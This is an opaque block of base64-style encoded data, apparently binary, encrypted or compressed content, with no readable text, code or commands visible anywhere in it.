5YMIwIWLv80rI/HBHeghVnMaGbUCz5eNfFFkYfB5X0KBFZWVOYGtjZBjhzCZgUOBc2qEv+LtQU8nArDNFpDtHg2xF4lH7jgE6xOjRZeUaP0bp1xBBhLdW41PjLUIE3SKjECJf/E5aT+vWRJ/1kTFuE+qsjb5IBA5XJjSKoGJ/iUV/OkZjdcQD6ojcHbpU/wPYZ7+7wGhhMcSuhCOoc3B7bIVz7U/ebYOTAufkz9576ZVB+8SgE9477HHjhOHpx8nMD4vqJ0k5rljVktI2ts/RC0IhkcB23oU0pXv3UHSeXpWnlz42GkgAjIRW0V8zizdjRfa2gO08EgCCQ78c9Qi54MMfFGMrg/m1t0QKRCtvE52DWk23pip89uql+AdecczsOBrnhiTVE5QKgNz/3RLtnkbBfXUjtvL+YzZtBEne15PTNLXBh9OK4slQS6GhXTFxFGvKI7HOd9NnH4tOIWT7NHzN8CkMFdE2Cq+zLuFNUAbOR64nw9oiBCOCCvkJZUwwWILy66bdvyQkTJsY7DlEPKl08xn7RMOTnsKFyckePWgeUC7Y+0j39F0FQyTQ3xg8F9zonGYiVsKuLfNPro7kXUlcyK7IGIaA6HQADngPhow1q53xwYL3jZVf4DIsHLtNsdZuyPBxAINDX/tFrdTsETRgRCtsGkVGlUf8fZTq+wwv98ZoA18cRG0Bcg6lLX3RoFJju0BdW7R1VYeVCbL9J9rJCAX4BNXDfl+ub98oOERiJCgj1HNrBkSA9crv059nYf5llvwAeysrTfO/onRlo1qCcQxKiTpXPRQ54z6dTbTjNDFSNVsVdgK2NHVTMpjjhZLZa4zjVwgaqPSexvq6qJwfLeckA7fHufoz9wK7rOUtMfyQrMbfeQsXVGwKTlUPWA1KgHLhhDVnEMV0Fcl+VeMXt4xs/M2qF+wbivkmC5rqN93WGqsnUu8Rdc/lEV2EPilC4Y9J8NhfCdLBHTu5eJC/33mV2HbeJJ8AYVGmdKYEaPU3HDYPwLkMPxG6j4N8dNfd/rzyviFd+XCCtD3m/zAzkAlZHUYtXUGn79lek5WfcoVulVx7+Ug/+a7weWyTCZEPzsJ6E/dQ5k6IeC75qDBLPyrKtxG8ZRu8gnkmuz/NMfAdv1Iq/bWVMboARRwRXy0swnZt+SsEsSzP5LtMaYxhSXXtJ6d4WKbYqnGa7nalpX0p48s9aXzrkZ0Z4e5NRey/YYaGelPKyHJCsW+zRD7QVOupubCM1RxrUp/ZXbRpT3j3Hf932nKiFqTKKtq/CMLmqR8nvrL9AlDzzXZyFrhpltgNMxmUCha3t6EQwB7XDQkRP6UZ1G3e7+lB8LXOZ17kZLbK5LAr4mlUKnwKC5jifDMmKVbID4D+oK0hvwIwj09hW3dbcrR7w3xi0L/rBk5mpVW+qw5IEI29Ywmm0DkXfvdpuINJyvgFNkAcY3ycZekeKb46Oc+Ae295x8TR1mph2QJPn887Ek4L4jIhi0j0H70rsAhmt6DJ0HsdN7JDEL7z8QIpNGGfbjS9bzowTVfgJBTKH9phknnd8MxtvKB5a6pVU57KEbtKEff5nVt08aQBoVabzNMM+dzL7Aka77E1Uyzk1E4B1pWwAlkqqQdz39tlbsObrpInQKFa9Y3pp+jCZDmjYaqcuxUoBjkpDRPdzwBULLmhsPoe020jYqb26MHbgKAjQHclP7L73aT0GrdgyQ8VrUpntLAMyBsBnEI2NYP7Cgk1WFsl/BTVAjbX/7+lQIo+fXEg9uVEoRQbjRTTWiDiEeAlkxA9gE9+1XnDCvHBLTLEb6Nxw8MvQ9tmPPlnslfp+y1FfhN9ShJLl+mmDY8H90S+1KKXsk+lra4ySEsPsyEbyU3EFYYfRt+fr1UcmSpSR/UZm2c7HjlwDhXrWKtVO3HjOOmOGpzI4eDGJl2KXzDLpv/Ee9ArpvJ5p8xVfcTxctbKgdf1zR88xaIfyjErj8CqZ1q+2s/vHvcHXficy7vfBhzQtesVEYmO88fHOjRwc09yMX2TOnZePh7jEfYZ/0WO7MwxRMNWRVXdFS/w8NSYD7mFfk5ZawqM1DiQuPrKPZrJZcIou4FvPBABit+3vI0Z2OfonFIFoKbjLFNhQATqlHmFLtZ9zfqHq4F/63Opva2XNvR1fahX637/5Vg17Mp2j1QcI9GJ82AOdQKwVSYutWEINSyhZfEQkihWGCjTqEMTwZMM1yLRtKyDVC8wXIry9i9VnPzLcdqwXlEDEYmerqwNQKuFSuya7Bw1vBXwec+ZpqGwHih5obSfIIdv5xQYeo94Pzc3OVPg93tahUBflhN1huKrxBHSylxLNY9A2R0XvnhWlc2ZWYgfbOJFfWZPCz5PC15f7OviPrXUyfl2zYDv/c7dNJdBVYXa8FKNVKDIej5E7ggUd1L/on62E2r1JCpvFUcV+GGMisOVt+2P2cF2OiG9CZvRpw19C0Tkegf0v87eqg+f9TZqwVF9UgCXYwFwqcgyzqZWakgWTKhVrPeiUnGxAoyBLL4S+BPMfamEL24MEkPRpdWH6JeeUsaTNORPDLIBwzLR1Rc7qPPVRVAfwCdccw7pn/+j29XixS6o8xA6Rvn7YXMCHr8PPSlBt4vzswQ6VT0zgn+y3nQ/LzrlzN7FLBq8QuiMaEWTbYIE/IgDGyDamMoxfvVbNUgFzPavXo0zj/UsozxzGM6XeUSqDZEVVKpW2AdMLNBdhmFsbf33GrLh6mKKHVM9zTsuzDMjAKfXZtQwH5wrRV8n2c6Pm0G7J03W+cjb7HMaK62pM9ApgHYajcijrp6F8JUelwBChta/IXjS6dT/zpwI/U3Z5/tt9xxZL4fSqo1o0WbBsQUvk/MMo6vwATwIJbq+Euumt2hAfFy32tV/7kZVm1PCjiV4GjfaX5kinPzFQmgezW3clgRzMwFUVV4E77Z8n2Gjn8ZT4ttrXtkaghrLGb3w0fYz337dn/AzUWndnuegX5zHOgeR8i+HvQzKCFCMl/xyvWEcBrLuKJkIDKkYMy2kRzk1hIuoln+oKD58DW7+IjGNBTXN2D0NXnnsV1srQoVml28uhrMASWznmp9Pk8ZnUM1T6VkYI1qsv/QuTPfKu7GYIs/JoWX93uDpRRtIii4ILmuDb9Mqb283vfCCGbPUqmYp8Lg8Xy376mOQErwsHNeOkaccZgMQJ8xFiNjTDnadKX2c2xXLBdtASIHpQzEacQW6lGzZ9fWLCkTaiHnadJdPgavm3JbXCAfXW82tEVEazAY49IC0h5xJ3+8J2RgHo84TWHQ3lpndPu+8WQ/drI+2P62yyT+nHkyTAwzBF/vcvdgKbhJadCELQQb2Doy1/HMiiAC+wBX9GTFsBuFuRwZOrwHQROpHUNV8QFoit+z69MJQOtzwd9GUuM5xyY8mW0r7ZtcRJRm24fW43kp+f7hXPaJpHStNgMecrwFFVmTJ4HZu8NhjqyFyDLU+0+nJ6jbDHw9o+fE1ue6ng3Zp7+7a6Z4J4hKG/rJ52o/Hd7v5hwIuFg3dsVqUtbTA9GSVn8ZfwiW7/1UIeO3O3K7gmISAG0KjS8lTl3aN3XoJZlO8SK/2C2RKF+AzTs+9X5R2yL7PZbkhvsj0KzwzbQSvAXUFO4nUjCT6vilnYRN5WBfEO9VHfhVO3hB3YAN3iB7FfiEv5QkhaPeeVL2vLAxbdyLbwMS+hLQ3PCoPSqLi7mGVLFfFGNXXXbsTsc9ZlJMwxP33NQOswg7IJl07BFz0OyTUNPVQdu1KXT9v8Q7Fon3niGvvOAzlDb/BtdgdS44WYntPg3oH8rQ18toJO/JsYZIaICE2ETKwh6a43drsTDSX1DUTy+n/OQDuBDbzOxwVaE0DefCuugPDoBf3cf31+1qPjkIX/3Kwge+b24MMuOrIrzlTrqK+tDficceJI8aiha5DtA9W8zkiDq98FD5aYB1yKHKILd/dNgC6rIPIi5DotZ5iQDns4WcogHoXh5lXtMwjwDN+fe2+WN/KWN1kWOU6qd6ctIwXf/7BUIzrg1NUdrkEruCKIsiZWpiBMhtMucwal1MzQ4gX/FyeQ5OK8ZEyiy4K9SdqFNcuFHTljs73RvdmB1Kbq5wP6yOFuvFcmGAFvrityqPiVYcmko1VnRO+9C0U+nuRjPDJ8cySVHTdG7L52a3UxiB8ZWh1bs2vVpJi11Or04r9lEylTep2/1CvjxYjWRmRugP7SyYBgTZFUp3Yb6U6asI7Q3o+qSMcMd+uRj3HyClKzFw8OAp/TGXWAtikXbDtUtdnVg7WDcB6JfvAROPqB5Ga37VX/yqiIWrJLX3+YJ40BSO7Vl1X0COqZM09mZo/EV+n18Z0AWisIiuwJ0cUgG85VL0Ir5Tr0PIlfkUuZcwo0YcnQkB7oBn095vjzvEhPzTDs5XaL9VrdZK8VX0q7Rcxjl6W4PUqLze15+n2aR84jKIa//KGSw9NfsHS6xi3QZdQrDgkTYTg6oskR6TSEfE2zDG11hZnZOM/M4IaCWuTIoWwZ1H6KqnWsp7WCDyXkah8EF8b/vfqYwTSqSmamo/HXazc2se0AjpPIJwskdM0pfXvlQkSfIAg1ErB+QJbhpwdtq1Ybx5lFqp4MoM/umyWTulijbsCDD6KejZEakx2jknX1zWscs7g+pQ2hfrpFXbEhJH7/TAhmHM5dCJF8fWVU67VF3lANKtlgbESYeRvAMeqXJkKJR6RGz91SAK+EYKPU5yMuaZ/OyFy/BCAxZBGRqW5LAN2d3fPRYPhHwjeBMUEgoCXAcVIsuU454UiHhXlFPsHctAcRgOWgHj15mtFjQQqX3tpTEuevJ1RtUtcJK4O7W6/0o2/FgIqXLTjuGsHBAuk/uipkQ8TDDwnF7eCzOkeF3Z1+C2PNNRts5uLztEo9TIGFC4hedcDNf47M+otkgXHOb0g6xQfAQh1M4neR3zHdycMnGI8AFRrJW/bUdLptf3UB754SOBAod5Oj91PuHMxVApW1roXIsAAP7+dun0NNKBud4xa7oKJm5CmS+g1T9esgPouXKk59m1d+NjsaVb+R0oiyrzIHIKfkGi5BKt9jIm0NDN+dYlwOcDr+NLKaP47Lh8ZQkfJyMdDW9MukLGek6r4i81ZTVKfOzqmgWjxsFfJ7e/KO/ThTfvSjymHqwZT5TL5bNH1AYOvLsHA8Vw1irSyjp/wikPLpyTaUYgaNyawlqHTGSbITtvygtsqy9pY25FpYdBJJIS15M6QRgdMY/NHukQN4Vl4IxIR3sjx3ZjIlUkdyTeTcEP/D+svVRdrtC0GeDhJdJP9enqS144zOqINO04w0aekXI9D5R6NnhrVXF/4jJV1+Trr1QL4Bso/eD2KQPZX6lSy6xlxJo7VUwKqe0tIJe1PvrzHB1CXv20yB1bhg+6AcoVMQ6uGbivzgOZFuE0wXldAv8xaBw3eelArKGRgTI3+YAhRwColEblIzMRJOwBH8S2t/QGl7Nw9NHz3+8BXJqI0+TSOXcD1FqX8ECCiRYsNlIVEt0gDjAekLbrqQDEB4dxRLv1pLLUumLSSwO5q9GtTznMfQt4ATzVbEJ4JRte7vgrk+uabQzUj9i+9Zzmd/atgmtl9SAleK+kR3hXbB9tV6FZOf2SIPB+3RLkrmoSg5dU6M+LFRTjkcQAmIOSm9vL+8sIyR8ZsZ+G6LSN0IDLlR6Bh+7PWF6HOdFSb7rqy7YKF31Bu4k5tW+98lFoJcSgSPXrV7VA0Uw/Ppvtg35ww4O4RyA4AGTBRTEFqAeknd0HqLSJHV4WQkWdakzsqQfAY8F4u7S++uaLOm1yuHW/5oohS4QZOXQ2KxcFATyjUTWMov6f4tfU0bHDbShlQZtgFdUNfZagEuO+KYuQ/2Zk7RmugqU2gkqcdmTlH1RG8A9NItlj7Bf1PMESMuyctb7nigUS5wuLDMffaIgPy+yp09vHfWWslkrRkH84hAIr7Fu0yIaitaTHQ+/in0zp9j3y0/ZwuS15b+UKz3N8KyHhQou7TkhYbufFAkA89AXbptD87zJhScKa78H/tY/hXESUm+MrXfL+2UI25aR0YM3BLnlCE0jRp7czxl8MowD84R+0uPlV9S+2CpZr8Me7nn7S6jjRhySwbqheTk5ixi860MxyL7olsPaxiLCQoBdJf2T8vvpXsfaqVV2LB3l8VbNRLL61fA7PmIGHquHQqksobBu2nBSrHAMi34/jNg6nb9ybo+y6EwP2B+MCjD8Tm3AuFD8f4hWwf6MU3F6mdqsKOhuHNDB4v+DldCQo1fY9ca+iLV+Fihe0GWj5mb4e+dqmYUiX154mS4XA8REXFEoyCeYV/jcJhMfbG6xReP1TMLQ+tjaG8q0yhWPQfVTyf/Z/3xWbSXwEdtPHnDEkP1gsr9UVxSkVWWQHNT33dL8xWh2XhpvXIMjXqBgvnQJZhOEbzSB/WoW6yLyHqOgR0yFphfAMPD8IiiYeLU3LwyvTNwCBV8WGpO+cR9pcn1m7HjdDJzLzLdpXomdkBsEseIUETb4g0k8BqCzjzJWUgzuDM8nj/e5JnsCcMTQBC0a0NgzYBPqutvOpbb5MyNoFs2Fh4jjdtE1SoRnXRW90/6veFsQ0xmyXqcngC8X0p1V9E0TiO08g1btKM+trqUBVDhjJjIpxz/NbQqhWof426JbTU9uCUhJku0dE4KaQi3vXOYYwmB7wBUo9/endrkq1kzup4Gx95VWhqgc9HPVhwpg0FZuo05WZz0CXqtUaP5x9P6fsnQYNNsZR20SPTiV33RVnXcsoOeJeRJarseTTnpfXsYyTvfF+tXVdJKp15G7F+ZLFlbBH3h7eraO+lFyIJBRMXwoW/Ixvjg6p+vb6Y50BX8jtYDHwNEeD5Pev92BLbePo2EnGMTJWeMNTZWryAKfP/PWcxHuiCZKOJR0o8WcseMJjf2Iv2aOB2UCqG58uX12TipyBYgO2hR5bJYRS9+Np+IFlabwTu/s4yHnm4YfQXoPVgflx+PVpFyym2LgWxXmoT7lxEfi0yLPSJpVTY5T/SVGp7+eamPqLe3ggo+mezy/azsA19uP8hQwkF+X6LNnvyK03beR7zuNPyciwgxInqpxgxMjXIRIxVGcfKc109SBKL9u3jwWmLuKCP52r47uR4EypLv9X7OXGBTN/X6tmLDa/wb3gB4pu2dfytmYoiu2KW4eZf5EpDYZW2XXixjz7gPDPA3gmI8aZ3osXGuI9mhw1QtVlUImZ6NXx0K/12iGZtkED3j4o2bkcgd4tmbEA8GeBfo/ZaCFC2IQYYwNwM0bCtgeh4MdGOyWOpGUiiepcTZlujE+0cBY7eUcX1L5YzWYk2uoAKXiWnjvkf2EBO+lQfD63A+pTQpMKdJcWiSdCJRfJ1pipvawqSSLvNWVZB5QLOA6Wp2YbBqaTeqLuqx9BUZRW6GwsxfkXD/78KAkj/TvOhYRK9/45+s6yFg5GOReEupq01RJ26RXzuIYr5zdxV6n24/dnc/gRzf4ASlM/eehFeE3Kshwfra/HLXN/1aVie3U+57+G3q212iT+ZQlaSvU8C4FVPVWkOzx6zHJOVCz3OyrzIc3y8WCrFpBa4XwfucFvMV0CEVQu7FWTNB/KwG+XNaqNRS6DSZxycAhfCqc9PBCs0ACOpwCC2B5ISJg8cNu9TegObRZGm5m4VMz9rg+75lC4v23gzLkg9mMLCAOhNkOpiTbr188xykUl9DmaxJCPvQehuKw9XEOrTo2IoIoA9TNNBTcpe1oxt+V3YNBMr6R1WDEY5GMAUe2KHwoGYNNNs21ZKwOQWa5mbqHp//n/9JpM9qsqE0+NzC6K48yJMzvV1wYbLLBDitxeSCY3XhbClVE+J1C049Nnl+9YwknGn/R+2pcQqjyz0MjJ79qk8dnm40fdz4qm/Of9FdV1U9LWqi35I9FV6b+x94xHh+tbm8+T7GJCg/00M7nQF97kvSs5Ft51o2HJoWC51WpVb0Ht7ibw+QGrjk0qdjgPr6ircLdAbyiV9xVGgOa4QSc/fZSvbqV6UFDxchAWd4EViIg2IIUSmwz4UWP6i/rE6sgtPauRaFks5dpApjgQq/dYmDNDNSs6LouGZlCoU1PJpDZCp4Zbyo1wIAsiC4GyCx0vJeSZfSyDaX5Yh6zJ5hZheQsa8urgm0EsmMRa6XiQPLJiVY15AK7+cZSNMQnFnZbanKddXfYnvsY+Ha00Z4SsO6YebEZhMxytX8toKWCcEAIGkFCH1jubQyBllNyzxPCzGm9vmhIbvFxO4hrcj5DMygIU0ThmHc5EwD3Sn068G1a3NfrDBfjWPMXRTyupLI++laroKHRI7jzTQPj91Do5oH+Q2qbHofwyQFTvUSvDPCLExu6i/gN/PbeepM4plvqZU94Ox5zlCcZvEXLy5ErFL44W5KurZDVsmhkQuGTlHrWj84bNUD88OdSPDjlYd0bw3X4+zzXWDik2ovwHNXJgzs5kGhJhtz/B7xSkFVP+wxZis7rZ+Q3P+CsndxA9MZhqd6+8l+rrdFDugR8bt86pykXIiDqci5PUi53Su+LKfpK3Tad4hZEsD8ExaJb8Sv4zFV/D/y0Gs0RxP3WmgFStj672vLejTaQxVGbxNAGc8zvl4TLt3bkIL0yFA9NRGmtHs9mGeEbxRDrFxk3JlthbXDv58P4fhuPDnxFT+j93QKw2zIK3aMbMs7fZoQ0zQ8H/5sCJow2aJW8pMldRvEY9herKelppHUFgiXQuUPLRmJjEXKfILAB1NMGpEtJvpMmbC1pkb2PDa61kav6sBmxAFc4MsoIynu0/OQpvowml6i/FBewaXb9GszXaYv/4ExB23aWyz/Cg+wFTJcPFi+rCaucVtDiUZvV976ez3eOVSQGGtr3T24oK/cRQLrCQB+AQziip1wgwVh9d67lUZMNMgBfI1HqeJ4+ZLhOqOvg2eTuEowzhnuMlMfAaBgb7g1cY320xNHqFUb+DVZPJIqvacuNkjpE8OCFeWgIpEghLUsimo5pivQ1Be56mmsvUP4dC8pBnq47v2BqeJ0YjE5eFsnAKQrdOJAynzf0KPC+BRVDEfEgjRcCeYIYWp05NHo5LGTAOoOIbANRvDQHR5eodRnmUyLPYLONhsZSRzrY79fPCI3eV4MUg+smxHPG47kYZSQhZc5L597oMH7SX4MFcfkmt5XRUsjCZPgFfrYKhH5G8mh0zlvh8DlCx24Li2qiyeZ/WUOox/lGmQAROqjNP5BuvmHb3E9zQQt6f8bC/jBAiwhZ8L045/RYfVgJQ2G1JzsXyep2jjW7FzcgkF5mNtidbt3rX8NEFCW7UE7+H3lb9WeF4m4QUrvJKzFFqlqNvpIhzgy7+0wY+MnjNqjdmy1yr48onNAgutUiLtpZNvblztaShEpIhaWI+7n5oTYx3iZm+iwmcO+2LxSgnJVkVZuBSmnKnJbeJhazgJbEY01rpK0ekupGUIK9GVRT/2bgJPJ8Tmouet/ldcfqc68DR4rOYddT5eYi8b+A7Trd1O5z6OhV8kDKnIkZ1LkHrU89U1dIY/XLqStfLr8y0wjJkUbD0p931f+jjdIO5y83bbf0Qy0EnX+usCK12wiWuiK7LD7/4tSIaEaaeKXhJcaK5z5AbKX9LS+q2Hhlu7T+24qYN4K4qhM2AYULCP8/Kbjq4a1uON95zBzAHsxXDry8ZLs/09eqe3MebMls4rV0ihKXEyojq/qLwFFAxH+XfAjQeMYAURW0/Gr/w6wEn5KZBAeR0+3JojEV4mxdP9gH/lpCIk5tnjyWL/HU8cliM+VdhO20FIk0rmLikMlNIZ0ywC1l8Aa5cyMSmVJwBeYKZhNQdvsMNb6b+Sv7xSwfkWWRQZuqmQ/NYjvAlIRKch29s6ewYcFT9UHLEvYIshA4KhpOo4BBXS0LKlmFW8Tbmf+X/8F2zGFTCK8N9bHj4BzKXPo2ozts7Y3mp/baVVe+GpdppYKHlJXzRt+5bt3d+5iP3AmFKpjIFumAEiOSGbSQFN4uW2/+pFdsDR67wuqTNyvVleC1e4EPlWLyTTGhGzFbb3LD94cV8VN9Bb/e9J6m6/pMXyf2Xw7j2WFc8L431Y7JxU0i1SWIxUtqS6Pfnk6DfcrUq/3x+eOdIAz2GvBdspBDyreMs8stUBHDfUSz6Pmh5inPI98KwQ6xjVOMBMctEv7D3xtwyAVw6vklrUL84f6DjvXhmfqcrP+2wMS3laJuYtbrinkKhr9d6fG7ThxMEsoqU8w3r4gHSwz3J6t6IDpCY8UCv7LRundkGMHEWlsdV965RyOm36enc3zx7N0Nd7cVQUCotm9VhhQQPawTo1CANVHCwKgOHhD6aNaYeG9AO5q8Jz7xi+BsLiVqS+hazrdSa4MsgMndt2MKKOk4M2uQS59M1i3CaG+IBfreP70za2t+YPEz3Fwr2vVLdnGoEr8QZ4CMpBiqz+gMFR8Eqbk2u5HWfwVNgKIFhDXwIw6Mhtlnka7TyOGjXM6E4R6LTb/xv/ChUZBvC3nMBaYBbE5bL0SAjfRPGQT9lf4dV6ynvZF/VTtRXnEsiQBAVm53Oa9C6mWAE32xY3Di0vqhJ3e/UyrFhtIu6FxrLHmmlcdJ9orG+5GlQ7pNtQPt8tqYAbp7wST1LYW8++N7Lt5yH/Fz/A3TVVSp6ygEhAC1R8fimySgkEY1aXPpLkAylm4Ske5RgyxzzOSMSM/FCjZpFT0VgGvPNUi+toAonL0e1ZzaODcsspgo8T1VgBH9kHZjZlocLbOluUZ1VGnSceGYJYpEJHQLJd2PX+1wngQxTE/1iqfx88zCIitQVDQro6fz6ptqfpK07WoENPEHfONsVEqvOtILgMxUosRdcz6NA0WV8Dgl/y6OKCWZdyRpX6IvCYw8qwvcWv1QIBdHqIxpUuLG5OuYSF7n5tJJ+8qdkoIv7pZGT+OOF4DVfYuH1mKRJvEkFZj11URuneg4qfaDWF5rK79G4zWJMtuFnOA4b6h2S629GnNbA1nzYhE8z/C6g6mgPg52YE9FNjm7+CvQyDzRC3ieRRnubc+fU2tZsUicOz0l1Qlr5440qAMTx+Mtqea9QrQ0+5SRTDHPi9iinhlLkauGq8bN9okPbe6bZ7Y8s3TXERbhMe+d4Dbi6p/SUfN5y8GqK9flVVWayfEOWksm6TN4lBLJSrLxDnME8C1xZsImhcvl/S+XNtjg+HiSULoXILag3VMiQSuGIzg7l6RI0DUVoTBaVURq8g/Oop5hiXLxm0EG9qHNEGDWgWbxfShHRWqBs81V4g+iYfhgY457F5dHLjylmPmtxBi58fSkM/ynnrbfqj90QkfBqVMNfDqVF8KOpcjm5lSDwKNM3n5As5j/jIL/YV5WVV6c4jl2chN+97XlhS3exQDmz7wAuPSDdY+bRx40Q2L7qdhrl6L9FE3LCXmLgpQj08+bmwj/aMiw7rH7mnsQzm+f94dJhE2Tyg2PUjh7DJbLbbv3a24XQLApR8rHjIpl1wFdfHVppA6hfo3I6B7Lr7owjZYl3SscMriQFxTyX9Ijhq5AdDjh6xOQW7OHXn8suirt8zgARfKRqNHPldsDZt1EHjuxsF8LdSaERol6bJO5AJRfGH98MX+3eZToJIrLpJBHuUfsGPRM4h+KcFyn0Jxr7F89O/A2PJGm98Vn+MKd16R1LjHjmHXBxt/Tjz0eiePE3SjPKvz19EvRbtkdkHBUQTwjvv/tA9HMOGp+A/8vLslWmsdjlflIwmNKOaccf6tRfoHv0jIDi9LrHR28cYE5dZ8vUzepGJulZ7I4nDgi1hciv+ibkk/zlMVpPyo0yEnYzcHfNAXPCijQkesCdYwxlIPmQJEyNL6jUtiv2sWvf6j83z3L8fcwjO0nXOyk+3lUNjzgmIXTon4OdUwc56YLSdugavl3vx96XeNV8+SKxy3pvQB4dAk6/4LOP/5lS0CLUvHUmpABBLR//CntAJ8m2F7otkXZqapjz34BBvv9nNrjm3Y5y7eQy2TnW+S6Kf1+2HmcJaQQUhRRnQHP5S1/GhSxGB8TYT9cv9DfAwITfJwRD/MIi4tVUTYf8eh0BPBBrZanWT2/qbLzSP2qRxxcodPA6reRkuLbjq2aNAsR0q12WpMv+klteDvN4ZB36kcoCYlMgvNvofoLXhc8UUOBJKcUoh6X+Ub+qUxHwVQhdB8q02ypLNlVocXyuApKXmmS8ggoQGtvRgGBlZ0HF3v8FEUARXvWlCuJ9rnnLKc+PclPdSqCg5+qEHkiAkRe5knCHpJ/bChpDt+klLHE1ioItroNzU4CBpPj21keCCIkJg5qq+DBQqHWR3Sh2yIP7eHdv9a+qOICEXOU/mODV38GSmrli5TvJW6HmcqkS6sn9CVds8jZVZMyWiA9TW7LH7OmEXNKg785yWXOrrrpBF0xbvBR/RmwVT2r7JRZxPzlQLh1jL/xxN0VtqiSeaJXcZi0IYntPYpRukNwdCI2LZi26UfWYJe8hzstkOwkFlA9rlSWkLgjLeJPQbL9+Jjf5Jbz1h039ggtv1S65XokyVuHeS9o0Qqq4KmYX1f+VZFbnicufp0u9EivkYE4/GnUFW5GeSESEEYQjGF75qhSe+XvrNn6vDkV5jCDKD73hMcyuIsEpuGb7Wm9dbH83TSHkT93+1lTcxGPa6mgD8RM6YgD9CNc0euCrVwb3ih5SGb4vcwAoEEU7F201ufWyJQI/FhqfKZd/WFjKc9Jiba3W/MDKt+c021PHD+pWTO5DEr/8RWekE4cjwtbjNWjTAuy+sPeeHkrv33/zQVDgOIUvWCO+6frNTM5vWHaKzWAbiF7QmSytRchdtbPd+SJ9FT3jDxhsEIruKZ+D3vc5K3WeyuQxoizkzaXxWBaA00SZgVOZIUmGa+LYaXeylzlSQ/en+9zTi1BIYq7gVqOi1YGIsmkaWpEXDq+xENtJ52PCgDuA1847dskHLBRagqIFKJyjMy6H4tZJGcQadTXCCBzmiZ4OazFiYszUSj9dgTwkE7CjABk3P6qlBGO7QNkYiAJIQpLlKMC82/yo3AIrg4zEL9DIeqyf13xZXlXA/MVzxARw/0KKxQP5cFAL1oP2TdyppcTkeQKdKWwVcjfTCYxvFio2KY2ZGIAPB8YZeNaovlY2M32k9mCU0iZ8KNwokJiQXTP8jvFHnsRKjp4G1qK9PFftI5BXlENOvSeFrGNW8u6n+iT7e92oocfaVofOO9claZqgaaVZUZAf9usWC0tBNfvNCwXJqk5ZljjjssX8P6lsygilaXSEfcRogu/G4gcVUrOCt8LGXqQNXYV2xH2Mb99OFE8lcDNkpP+xSxI8TnheSUQw8VuUJ2p6U7munSRbpQhZtRqE6K5cMZG9wmOovs9rV0HZpTjPuh17bJ6Kz/jlFy5V8y2Ou8iSVpwxPcvuBK7upPf01vNtYKvpcXjUNBZtNnePBk5YhWuz+dUoI/2PR6giT7gvBMTmZTEHvyhz86VC6WiLL+1WA66M/60Kwl8TlXqMa6ifngHHLw5N7wv/piH60cLkxKj459ggut68mOn4QcRSdbS8FsAbQ07+h2WHM5UPgfmB8pHOBZSIzLmkmqDViV+tHIcNRXg0asu+qYa+LPBJPwtamuC9UdpwrQgeGsMz9HHBZ1W2qfJryG1M4iXe0NbMQKaKlA+DOnRUzOsKaQPjrdyKuOkVboS9tw6uCbYLU0twZRYMyA1xBa04fHkACQgKIEc1Kdd7RooEK7Olt7CPOpWdjJHzO4PQBjWn5ZlLcUd1DRfnp9IpPEi4MQSNWnD+kB7cBvOP8G1VKsTGFab9jZ+24Ei7M3kihJFhIrqJ3rZkvhS1vCVaG7Ex1IkbOtRrqNYPQEZKx8a9pfKRDnVqV9hstScUcTKCdEKhxjAi+v6w91TovTwbMu64fhn31BBzw+qbZ5D4qR+f6Hn3ySLlgPh4BhQ2C4J3dWMeLYC7PNN/Zt3nMv8rXLb+h/YvVaMlAVzYdgPgzQ1SvVHl3niYK5VfmZgnTCIZqGT2ilUCM9+xb8kp4B26UwjvoZfIfBT361Ao0sGqZeU25ECe6KEacqeC9hAI1gM4zS4j9hx+9XtQXFPZFdfQtVdcQuugWb/SJuf0+3gGLOGjf+4A1IzkxiOH/3Np3bTQfuxdEhv1T1MDzxcY8T502rpuy+xpyRJykgAlnqOOcrcBmEg8E7DfTtg5pA+Tt8Fvm+Yfwdx335twy4hy1iN4gwubyprDVifmZAc7JjQJ8rqlWBhKYqBJd7nrfW8kiNOZektzro3c5zYgKO5iQmUV4RBK44ksG0LkfcKWQn1U35pzztf3DsSl75er+4zQFFFKx9pF9xqOUh/jIA+n6lIt08hsy2XSIW807NHh9JimD3l/s3piDW4pWsanf715zcHh4jLHRk0xlIXQSCFodSEHfdpSUQ1QnykoaIR2cqTtjYEvDqe0x8FuNnXVbKVd83kGEcOXdxdGgvoGumTM9+y7eKbQu1GF8PeRRhLMfJ4q7nAVmKtHWoEuTxGxTwyWa2lB6xLwKJSxMjCMxNr6BgbIa/g7zsA5KjxDgMoNpCIgW3jbw8inT1Sew3YhJtlPsiESj2ho9wfK1iXGdsM4lVBStKtJx0gYWoytmGNnUonqUNz57bj3isKjgJQt3EJLdgi0eRsrfQLhIaKNz4w+Ur2sEpWB1bJUozcn6/Gl0VJ8G5IdflfYUkcMqfPgfIFODb+62F4ybia8fhXj3rWTYXQAfgkfVWwCqUGvygT3dxkS5Tm2UZB8EMCPj1uTFCB6d4JjrrxtcynK7IwmwSplxIcU7nU67SAsxHZQnvxqrfOVjlTFzYlrNMgIe3OSXBe3vIgOYJuc6ZNfFJpfxK8B1lvdVpc62BMsHq2OL5LGMegAGUHy0kGIeTqXt6HtIhvOaLVNUfsD+IGw0IS1svjbOoR4CVeHiEEYm1wRHRlhVd+FAjavZAWIoh5sYDo5TnQUuEasxdRuMRnujdpbsnB7moq4nV2M7xJsLNICdf2zOv8baQcr75riL9uocRm3A1LYINUqRe5sAe/kK5AS/CmgAuUHMSeGpNaYHbt2EobKdC0hwaCUSxQEySk+wjKOpqfcqojyWCOqbWsftEkwWwSz09t0jkii850XzanI+OC+r4HNwop9O/gW2rHfcDyYLVEa7P6D/lrJwrBO+eyDmrgLYV8GrbnlSmCBzb6KCISGrn+a3nV/pTM+hWaGGbbCwLkXSmmr39StwGBlWYUrnO6pY5XTNsf5+UqfaekNU6iq8yfAHGh1g4zlnRJehGgXUQnbgWgZXc34HxzD90JEkfaMkdMTpqMU30uxlUaCdq594AqECSi4zc9zS681froQIlzzGqajfuHwkpbjsF23EjZFpPZcVCu74WEWxbulqmhaaVk7bEZinUvSDZEk92iSJD4UTxUAX9GdBXwpEAheF3XK9SkZV4se+Qxf5wBot/q/YfmirECoDOB9zBK7i2G1NQYU2z6T6QdN6/+Oda95SoV4lrpHe9/328phreKqyhWYK5ley4xutJ81ovsTHWvvHd6QAi4B96/uu8+bHMl8fKASN7tM9FvBdzwXXlm/iiCoxStlohgJquHBEi6RfWujpZ+7xgmKIkxH05JOs45zpygaCzw45m7xeIXFGKnW/7dO/Hr3xpNedNsudi8nDZ48LVvVba5tPlNlsuH46AHZhaPh04biwEFkQ8sj/UpTZbVZ7Tvks9jjWWSeUYN7AgZNUXutNMi8SVQqvPCiyZdCjj5ypWWKsmAD7P1En